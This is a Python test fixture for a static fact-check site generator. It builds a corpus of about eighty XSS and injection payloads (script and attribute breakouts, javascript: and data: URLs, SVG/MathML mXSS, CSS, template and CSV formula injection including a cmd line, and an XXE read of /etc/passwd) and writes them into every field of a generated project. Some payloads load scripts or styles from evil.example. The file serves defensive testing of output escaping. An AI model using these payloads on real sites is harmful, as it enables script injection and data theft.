"""A corpus of hostile content: injection payloads, and a whole project built from them.

Every payload that could run sets the canary (`window.__xss = 1`) or calls `alert`/`confirm`/
`prompt`/`print`, which the browser test hooks to set it too. Payloads that would only fetch
something (remote scripts, styles, images, <base>) point at hosts under `evil.example`, so the
browser test sees them as foreign requests.

`write_hostile_project(root)` writes a project in which every payload sits in every text field
that reaches the output: each claim carries one payload in all of its fields (claim_short is
capped at 75 characters, so it gets the payload's first 75), and the site-wide fields, people,
articles, verdicts, tag labels and pages carry groups of payloads joined together.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

CANARY = "window.__xss=1"
EVIL_HOST = "evil.example"
CLAIM_SHORT_MAX = 75


@dataclass(frozen=True)
class Payload:
    name: str
    family: str
    text: str


def _p(family: str, name: str, text: str) -> Payload:
    return Payload(name, family, text)


PAYLOADS: tuple[Payload, ...] = (
    # ---- script elements
    _p("script", "plain", f"<script>{CANARY}</script>"),
    _p("script", "mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    _p("script", "remote-src", f"<script src=https://{EVIL_HOST}/x.js></script>"),
    _p("script", "protocol-relative-src", f"<script src=//{EVIL_HOST}/x.js></script>"),
    _p("script", "unclosed", f"<script>{CANARY}//"),
    _p("script", "nested-split", f"<scr<script>ipt>{CANARY}</scr</script>ipt>"),
    _p("script", "textarea-break", f"</textarea></style></noscript><script>{CANARY}</script>"),
    _p("script", "template-tag", f"<template><script>{CANARY}</script></template><noscript><p title=\"</noscript><img src=x onerror={CANARY}>\">"),
    # ---- breaking out of attributes, <title>, <meta> and JSON-LD
    _p("attribute", "double-quote", f"\"><script>{CANARY}</script>"),
    _p("attribute", "single-quote", f"'><script>{CANARY}</script>"),
    _p("attribute", "double-quote-handler", f"\" onmouseover=\"{CANARY}\" autofocus onfocus=\"{CANARY}\" x=\""),
    _p("attribute", "single-quote-handler", f"' onfocus='{CANARY}' autofocus tabindex='1"),
    _p("attribute", "backtick", f"` onfocus=`{CANARY}` autofocus x=`"),
    _p("attribute", "title-break", f"</title><script>{CANARY}</script>"),
    _p("attribute", "meta-refresh-break", f"\"><meta http-equiv=\"refresh\" content=\"0;url=https://{EVIL_HOST}/\">"),
    _p("json-ld", "script-close", f"</script><script>{CANARY}</script>"),
    _p("json-ld", "script-close-mixed-case", f"</SCRIPT ><script>{CANARY}</script>"),
    _p("json-ld", "comment-open", f"<!--<script>{CANARY}</script>-->"),
    _p("json-ld", "line-separators", "\u2028\u2029\"};alert(1);//"),
    _p("json-ld", "string-break", "\"},\"@type\":\"Evil\",\"x\":{\"y\":\""),
    # ---- event-handler attributes
    _p("event-handler", "img-onerror", f"<img src=x onerror={CANARY}>"),
    _p("event-handler", "svg-onload", "<svg onload=alert(1)>"),
    _p("event-handler", "body-onload", f"<body onload={CANARY}>"),
    _p("event-handler", "details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    _p("event-handler", "input-autofocus", f"<input autofocus onfocus={CANARY}>"),
    _p("event-handler", "video-source", f"<video><source onerror=\"{CANARY}\"></video>"),
    _p("event-handler", "slash-separator", f"<img/src=x/onerror={CANARY}>"),
    # ---- dangerous URLs in raw HTML and in Markdown
    _p("url", "a-javascript", f"<a href=\"javascript:{CANARY}\">x</a>"),
    _p("url", "md-javascript", f"[click](javascript:{CANARY})"),
    _p("url", "md-javascript-case", "[click](JaVaScRiPt:alert(1))"),
    _p("url", "md-javascript-entity-tab", "[click](java&#x09;script:alert(1))"),
    _p("url", "md-javascript-entities", "[click](&#106;&#97;&#118;&#97;script:alert(1))"),
    _p("url", "md-javascript-angle", f"[click](<javascript:{CANARY}>)"),
    _p("url", "md-javascript-title", f"[click](javascript:{CANARY} \"t\")"),
    _p("url", "md-autolink-javascript", f"<javascript:{CANARY}>"),
    _p("url", "md-reference-javascript", f"[click][evil]\n\n[evil]: javascript:{CANARY}\n"),
    _p("url", "md-reference-data", "[click][d]\n\n[d]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\n"),
    _p("url", "md-data", "[click](data:text/html,<script>alert(1)</script>)"),
    _p("url", "md-vbscript", "[click](vbscript:msgbox(1))"),
    _p("url", "md-image-javascript", f"![x](javascript:{CANARY})"),
    _p("url", "md-image-remote", f"![x](https://{EVIL_HOST}/pixel.png)"),
    _p("url", "md-image-reference", f"![x][img]\n\n[img]: https://{EVIL_HOST}/pixel.png\n"),
    _p("url", "md-http-quote", f"[click](https://ok.example/?q=javascript:alert(1)\"onmouseover=\"{CANARY})"),
    _p("url", "md-autolink-quote", f"<https://ok.example/\"onmouseover=\"{CANARY}>"),
    _p("url", "md-autolink-email", "<evil\"onmouseover=\"alert(1)@example.org>"),
    _p("url", "form-action", f"<form action=\"javascript:{CANARY}\"><button formaction=\"javascript:{CANARY}\">go</button></form>"),
    _p("url", "srcset-poster", f"<img srcset=\"javascript:{CANARY} 1x\"><video poster=\"javascript:{CANARY}\"></video>"),
    # ---- SVG and MathML
    _p("svg", "svg-script", f"<svg><script>{CANARY}</script></svg>"),
    _p("svg", "svg-xlink", f"<svg><a xlink:href=\"javascript:{CANARY}\"><text x=\"0\" y=\"20\">x</text></a></svg>"),
    _p("svg", "svg-animate", f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>"),
    _p("mathml", "math-href", f"<math href=\"javascript:{CANARY}\">x</math>"),
    _p("mathml", "math-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}>"),
    # ---- embedding, <base>, meta refresh
    _p("embed", "iframe-javascript", f"<iframe src=\"javascript:{CANARY}\"></iframe>"),
    _p("embed", "iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.__xss=1&lt;/script&gt;\"></iframe>"),
    _p("embed", "object-data", f"<object data=\"javascript:{CANARY}\"></object>"),
    _p("embed", "embed-data", "<embed src=\"data:text/html,<script>alert(1)</script>\">"),
    _p("embed", "base-href", f"<base href=\"https://{EVIL_HOST}/\">"),
    _p("embed", "meta-refresh", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{CANARY}\">"),
    _p("embed", "link-stylesheet", f"<link rel=stylesheet href=https://{EVIL_HOST}/x.css>"),
    # ---- CSS
    _p("css", "style-url", f"<p style=\"background:url(javascript:{CANARY})\">x</p>"),
    _p("css", "style-expression", "<p style=\"width:expression(alert(1))\">x</p>"),
    _p("css", "style-import", f"<style>@import 'https://{EVIL_HOST}/x.css';</style>"),
    _p("css", "md-table-style", f"| a | b |\n|:--|--:|\n| <td style=\"background:url(https://{EVIL_HOST}/x)\"> | x |\n"),
    # ---- entity and encoding tricks
    _p("encoding", "hex-entities", f"&#x3C;script&#x3E;{CANARY}&#x3C;/script&#x3E;"),
    _p("encoding", "padded-decimal", "&#0000060script&#0000062alert(1)&#0000060/script&#0000062"),
    _p("encoding", "double-encoded-entities", f"&amp;lt;script&amp;gt;{CANARY}&amp;lt;/script&amp;gt;"),
    _p("encoding", "named-entities", f"&lt;script&gt;{CANARY}&lt;/script&gt;"),
    _p("encoding", "percent", f"%3Cscript%3E{CANARY}%3C/script%3E"),
    _p("encoding", "double-percent", f"%253Cscript%253E{CANARY}%253C/script%253E"),
    _p("encoding", "json-escapes", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    _p("encoding", "cdata", f"]]><![CDATA[<script>{CANARY}</script>]]>"),
    _p("encoding", "xml-entity", "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;"),
    _p("encoding", "fullwidth", "＜script＞alert(1)＜/script＞"),
    # ---- template syntax (Jinja must never evaluate content)
    _p("template", "jinja", "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}{# x #}"),
    _p("template", "client-side", "${alert(1)}{{constructor.constructor('alert(1)')()}}"),
    # ---- Unicode: bidi overrides and invisible characters
    _p("unicode", "bidi-override", f"\u202e<script>{CANARY}</script>\u202c\u2066\u2069"),
    _p("unicode", "zero-width", f"<scr\u200bipt>{CANARY}</scr\u200dipt>\ufeff"),
    # ---- spreadsheet formulas (for CSV exports)
    _p("formula", "csv-formula", "=HYPERLINK(\"https://evil.example/\",\"x\")"),
    _p("formula", "csv-cmd", "@SUM(1+1)*cmd|' /C calc'!A0"),
)

# http(s) URLs that pass validation but carry quotes, angle brackets and script words:
# they must come out as escaped attribute values and JSON strings, never as markup.
HOSTILE_HTTP_URLS: tuple[str, ...] = (
    f"https://{EVIL_HOST}/?q=\"><script>{CANARY}</script>",
    f"https://{EVIL_HOST}/?q='onmouseover='{CANARY}'",
    f"https://{EVIL_HOST}/?next=javascript:{CANARY}",
    f"https://{EVIL_HOST}/%3Cscript%3E{CANARY}%3C/script%3E",
    f"https://{EVIL_HOST}/</script><script>{CANARY}</script>",
    f"https://{EVIL_HOST}/#<!--<script>",
    f"http://{EVIL_HOST}/a?b=1&c=<b>2</b>&amp;d=\"3\"",
    f"https://{EVIL_HOST}/a%20b%22onmouseover%3D%22{CANARY}%22?u=data:text/html,x",
)

# URLs that validation must refuse in every URL field (the scheme check, spaces, control characters).
BAD_SCHEME_URLS: tuple[str, ...] = (
    f"javascript:{CANARY}",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "file:///etc/passwd",
    f"//{EVIL_HOST}/x",
    "https:javascript:alert(1)",
    "https://user:pw@evil.example/",
)

# Characters XML 1.0 forbids; written raw into page bodies (YAML text fields refuse them with a diagnostic).
RAW_CONTROL_CHARACTERS = f"NUL\x00 SOH\x01 BS\x08 ESC\x1b[31m FF\x0c US\x1f \ufffe\uffff <script>{CANARY}</script>"

TEXT_FIELDS = (
    "site.title", "site.description", "site.publisher.name", "site.data_license.name", "verdict.label",
    "verdict.description", "tag label", "person.name", "person.description", "article.title", "article.note",
    "claim.title", "claim.claim", "claim.claim_short", "claim.summary", "claim.analysis", "appearance.note",
    "source.title", "source.publisher", "source.note", "correction.note", "page.title", "page.description",
    "page.body",
)

GROUPS = 6  # people, articles, tags and pages each come in this many, holding a share of the payloads


def group(index: int) -> list[Payload]:
    """The payloads of group `index`: every GROUPS-th one, so each group mixes families."""
    return list(PAYLOADS[index::GROUPS])


def joined(payloads: list[Payload] | tuple[Payload, ...]) -> str:
    return " ".join(p.text for p in payloads)


def claim_id(index: int) -> str:
    return f"klaim-{index + 1:03d}"


def short(text: str) -> str:
    return text[:CLAIM_SHORT_MAX]


def claim_record(index: int) -> dict[str, Any]:
    """Claim `index` carries PAYLOADS[index] in every text field."""
    text = PAYLOADS[index].text
    g = index % GROUPS
    urls = HOSTILE_HTTP_URLS
    return {
        "title": text,
        "claim": text,
        "claim_short": short(text),
        "claimant": f"orang-{g + 1}",
        "article": f"artikel-{g + 1}",
        "article_position": index // GROUPS + 1,
        "appearances": [{"url": urls[index % len(urls)], "archive_url": urls[(index + 1) % len(urls)], "note": text}],
        "claim_date": "2021-04-16",
        "verdict": ("benar", "salah", "sebagian", "tidak-terbukti")[index % 4],
        "summary": text,
        "analysis": f"{text}\n\nTeks biasa [@sumber-1].\n\n{text}\n",
        "sources": [{"id": "sumber-1", "title": text, "url": urls[(index + 2) % len(urls)], "publisher": text,
                     "published": "2021-04-15", "archive_url": urls[(index + 3) % len(urls)], "note": text}],
        "tags": [f"topik-{g + 1}"],
        "authors": ["tim"],
        "published": "2021-04-19T09:00:00+07:00",
        "updated": "2021-04-20T09:00:00+07:00",
        "corrections": [{"date": "2021-04-20", "note": f"{text}\n\n[@sumber-1]", "previous_verdict": "tidak-terbukti"}],
        "updates": [{"date": "2021-04-21", "note": f"{text}\n\n[@sumber-1]"}],
        "method": text,
    }


def site_record() -> dict[str, Any]:
    everything = joined(PAYLOADS)
    return {
        "title": everything,
        "description": everything,
        "base_url": "https://cekfakta.example.org/",
        "language": "id",
        "timezone": "Asia/Jakarta",
        "publisher": {"name": everything, "url": HOSTILE_HTTP_URLS[0], "logo": HOSTILE_HTTP_URLS[4]},
        "data_license": {"name": everything, "url": HOSTILE_HTTP_URLS[1]},
        "scale": [
            {"id": "benar", "label": joined(group(0)), "description": joined(group(1)), "rating": 3, "bucket": "true"},
            {"id": "sebagian", "label": joined(group(2)), "description": joined(group(3)), "rating": 2, "bucket": "mixed"},
            {"id": "salah", "label": joined(group(4)), "description": joined(group(5)), "rating": 1, "bucket": "false"},
            {"id": "tidak-terbukti", "label": joined(group(1)), "description": joined(group(0)), "bucket": "other"},
        ],
        "tags": {f"topik-{g + 1}": joined(group(g)) for g in range(GROUPS)},
        "per_page": 100,
        "corrections_request": HOSTILE_HTTP_URLS[2],  # linked from every claim page and the corrections log
        "theme": {  # every text of the theme reaches every page's header and footer
            "colours": {"text": "#1a1a1a", "background": "#ffffff", "accent": "#0b57d0"},
            "navigation": [
                {"page": "home", "label": joined(group(0))},
                {"page": "halaman-1", "label": joined(group(1))},
                {"url": HOSTILE_HTTP_URLS[2], "label": joined(group(2))},
            ],
            "footer": {
                "text": everything,
                "links": [{"url": HOSTILE_HTTP_URLS[3], "label": joined(group(3))}, {"page": "data", "label": joined(group(4))}],
            },
            "social": list(HOSTILE_HTTP_URLS[:3]),
        },
    }


def person_record(g: int) -> dict[str, Any]:
    urls = HOSTILE_HTTP_URLS
    return {"name": joined(group(g)), "kind": "person" if g % 2 else "organization", "description": joined(group((g + 1) % GROUPS)),
            "url": urls[g % len(urls)], "same_as": [urls[(g + 1) % len(urls)], urls[(g + 2) % len(urls)]]}


def article_record(g: int) -> dict[str, Any]:
    urls = HOSTILE_HTTP_URLS
    return {"title": joined(group(g)), "title_is_description": bool(g % 2), "publisher": f"orang-{(g + 1) % GROUPS + 1}",
            "url": urls[(g + 3) % len(urls)], "archive_url": urls[(g + 4) % len(urls)], "published": "2021-04-16",
            "note": joined(group((g + 2) % GROUPS))}


def page_text(g: int) -> str:
    front: dict[str, Any] = {"title": joined(group(g)), "description": joined(group((g + 1) % GROUPS)), "menu": g, "role": "other"}
    if g == 0:  # the funding page lists its funders on the page
        front["role"] = "funding"
        front["funders"] = [{"name": joined(group(1)), "url": HOSTILE_HTTP_URLS[3], "note": joined(group(2))}]
    body = "\n\n".join(p.text for p in PAYLOADS)  # every payload as Markdown in every page body
    body += "\n\n" + RAW_CONTROL_CHARACTERS  # raw in the file; a YAML field refuses them (see the tests)
    return "---\n" + dump(front) + "---\n" + f"# {group(g)[0].text}\n\n" + body + "\n"


def dump(data: Any) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6)


def hostile_files() -> dict[str, str]:
    """Project-relative path -> text of the whole hostile project."""
    files = {"content/site.yaml": dump(site_record())}
    files["content/people/tim.yaml"] = dump({"name": joined(PAYLOADS[::-1]), "kind": "organization",
                                             "description": joined(PAYLOADS)})
    for g in range(GROUPS):
        files[f"content/people/orang-{g + 1}.yaml"] = dump(person_record(g))
        files[f"content/articles/artikel-{g + 1}.yaml"] = dump(article_record(g))
        files[f"content/pages/halaman-{g + 1}.md"] = page_text(g)
    for i in range(len(PAYLOADS)):
        files[f"content/claims/{claim_id(i)}.yaml"] = dump(claim_record(i))
    return files


def write_hostile_project(root: Path) -> Path:
    """Write the hostile project into `root` (created if needed) and return it."""
    for rel, text in hostile_files().items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return root


def families() -> dict[str, int]:
    counts: dict[str, int] = {}
    for p in PAYLOADS:
        counts[p.family] = counts.get(p.family, 0) + 1
    return counts
